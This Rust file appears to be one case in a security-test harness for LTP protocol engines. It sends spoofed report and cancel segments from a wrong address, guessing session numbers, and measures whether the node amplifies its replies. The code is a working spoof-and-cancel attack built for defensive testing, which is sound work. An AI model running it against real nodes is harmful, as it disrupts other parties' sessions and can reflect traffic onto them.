//! Reports and cancels for other engines' sessions.

use super::{Case, Outcome, Target};
use crate::attack::wire::{datagrams, ltp, stranger};
use anyhow::Result;

pub const CASE: Case = Case {
    name: "ltp-spoofed-controls",
    what: "From a wrong address, reports that claim everything and cancels for guessed session numbers of both ends.",
    run,
};

/// Bytes the node may answer for each byte received.
const AMPLIFICATION_MAX: f64 = 1.0;

fn run(target: &Target) -> Result<Outcome> {
    let socket = datagrams(stranger(1))?;
    let (mut sent, mut sent_bytes, mut answered, mut buffer) = (0u64, 0u64, 0u64, [0; 2048]);
    for number in target.paced(100_000) {
        // Session numbers from 0 to 4,999, again and again: an engine that numbers its sessions from 0 or 1 would be
        // hit first.
        let session = number / 4 % 5000;
        let segment = match number % 4 {
            // Reports claim the first 6,000 bytes of each block.
            0 => ltp::report(1, session, 1 + number, 6000),
            1 => ltp::segment(ltp::CANCEL[1], 1, session, &[0]),
            2 => ltp::segment(ltp::CANCEL[0], 3, session, &[0]),
            _ => ltp::report(3, session, 1 + number, 6000),
        };
        if socket.send_to(&segment, target.ltp).is_ok() {
            (sent, sent_bytes) = (sent + 1, sent_bytes + segment.len() as u64);
        }
        while let Ok(n) = socket.recv(&mut buffer) {
            answered += n as u64;
        }
    }
    target.hold();
    while let Ok(n) = socket.recv(&mut buffer) {
        answered += n as u64;
    }
    let ratio = answered as f64 / sent_bytes.max(1) as f64;
    Ok(Outcome::of(format!("{sent} segments, {ratio:.2} bytes answered per byte"))
        .unless(ratio <= AMPLIFICATION_MAX, || format!("{ratio:.2} bytes answered per byte")))
}
